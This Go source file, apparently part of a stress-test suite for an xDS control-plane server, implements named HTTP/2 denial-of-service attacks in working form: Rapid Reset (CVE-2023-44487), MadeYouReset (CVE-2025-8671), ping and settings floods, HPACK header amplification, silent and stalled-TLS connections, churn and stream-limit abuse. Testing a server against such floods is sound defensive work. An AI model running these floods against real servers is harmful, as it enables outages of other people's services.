package hostile

import (
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacks by name. Unless noted otherwise, a.size is the number of connections.
var attacks = map[string]func(a *assault){
	"names that change":            namesThatChange,
	"names that change, 8 streams": namesThatChange,
	"many names":                   manyNames,
	"unknown types":                unknownTypes,
	"Secrets without identity":     secretsWithoutIdentity,
	"keys of one client":           keysOfOneClient,

	"rapid reset":             rapidReset,
	"made-you-reset":          madeYouReset,
	"pings":                   pings,
	"settings":                settings,
	"large header lists":      largeHeaders,
	"silent connections":      silent,
	"silent TLS connections":  silentTLS,
	"connections without end": churn,
	"streams over the limit":  tooManyStreams,
	"half requests":           halfRequests,
	"half a request a minute": slowRequests,
	"huge requests":           hugeRequests,
	"half REST polls":         halfPolls,
	"whole REST polls":        wholePolls,
	"a million names at once": namesAtOnce,
	"a million names, by one": namesByOne,
	"nodes with own keys":     ownKeys,
	"large nodes":             largeNodes,
	"dense nodes":             denseNodes,
	"never reading":           neverReading,
	"NACK loops":              nackLoops,
	"asking again and again":  askingAgain,
}

// rapidReset is CVE-2023-44487: streams that are reset as soon as they are opened.
func rapidReset(a *assault) {
	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
		for range 50 {
			_ = c.fr.WriteRSTStream(c.open(sotwPath, false), http2.ErrCodeCancel)
		}
		return 50
	})
}

// madeYouReset makes the server reset streams (CVE-2025-8671).
func madeYouReset(a *assault) {
	faults := []func(c *h2, id uint32){
		func(c *h2, id uint32) { c.raw(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) }, // by zero
		func(c *h2, id uint32) { // above the maximum
			c.raw(http2.FrameWindowUpdate, 0, id, binary.BigEndian.AppendUint32(nil, 1<<31-1))
			c.raw(http2.FrameWindowUpdate, 0, id, binary.BigEndian.AppendUint32(nil, 1<<31-1))
		},
		func(c *h2, id uint32) { // DATA after the end of the stream
			_ = c.fr.WriteData(id, true, nil)
			_ = c.fr.WriteData(id, false, []byte("more"))
		},
		func(c *h2, id uint32) { c.raw(http2.FramePriority, 0, id, make([]byte, 4)) }, // too short
		func(c *h2, id uint32) { _ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true}) },
	}
	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
		at := int(c.next/2) / 50 % (2 * len(faults)) // mostly the faults that keep the connection open
		for range 50 {
			faults[min(at, len(faults)-1)%3](c, c.open(sotwPath, false))
		}
		if at == len(faults)+3 || at == len(faults)+4 {
			faults[at-len(faults)](c, c.open(sotwPath, false))
		}
		return 50
	})
}

func pings(a *assault) {
	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
		for range 100 {
			_ = c.fr.WritePing(false, [8]byte{})
		}
		return 100
	})
}

func settings(a *assault) {
	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
		for i := range 100 {
			_ = c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1000 + i)}, http2.Setting{ID: http2.SettingMaxHeaderListSize, Val: 1})
		}
		return 100
	})
}

// largeHeaders sends header lists of megabytes, by references to the dynamic table.
func largeHeaders(a *assault) {
	large := strings.Repeat("h", 3000)
	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
		more := make([]hpack.HeaderField, 2000)
		for i := range more {
			more[i] = hpack.HeaderField{Name: "x-large", Value: large}
		}
		c.open(sotwPath, false, more...)
		return 1
	})
}

// silent opens connections that send nothing, and reopens them when they are closed.
func silent(a *assault) {
	a.each(a.size, func(int) error {
		c, err := a.connect(a.XDS)
		if err != nil {
			return err
		}
		a.hit(1)
		_, _ = c.Read(make([]byte, 1)) // the server's settings, or its end
		_, _ = c.Read(make([]byte, 1<<10))
		_, _ = c.Read(make([]byte, 1<<10))
		return c.Close()
	})
}

// silentTLS begins a handshake and does not continue.
func silentTLS(a *assault) {
	a.each(a.size, func(int) error {
		c, err := a.connect(a.TLS)
		if err != nil {
			return err
		}
		_, _ = c.Write([]byte{22, 3, 1, 0x02, 0}) // a record of 512 bytes will follow
		a.hit(1)
		_, _ = c.Read(make([]byte, 1))
		return c.Close()
	})
}

// churn opens connections, sends a request and closes them; every fourth over TLS.
func churn(a *assault) {
	a.each(a.size, func(i int) error {
		if i%4 == 0 {
			c, err := a.connect(a.TLS)
			if err != nil {
				return err
			}
			defer func() { _ = c.Close() }()
			_ = c.SetDeadline(time.Now().Add(5 * time.Second))
			if tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}).HandshakeContext(a.ctx) == nil {
				a.hit(1)
			}
			return nil
		}
		c, err := a.dial(a.XDS, discards)
		if err != nil {
			return err
		}
		defer c.close()
		c.message(c.open(deltaPath, false), ask(fmt.Sprint("churn-", i), "hostile"))
		if c.flush() == nil {
			a.hit(1)
		}
		return nil
	})
}

// tooManyStreams opens more streams on one connection than it may, and continues.
func tooManyStreams(a *assault) {
	a.flood(a.XDS, a.size, discards, func(c *h2) {
		for range 100 {
			c.message(c.open(deltaPath, false), ask("s", "hostile"))
		}
	}, func(c *h2) int {
		for range 50 {
			c.open(deltaPath, false)
		}
		return 50
	})
}
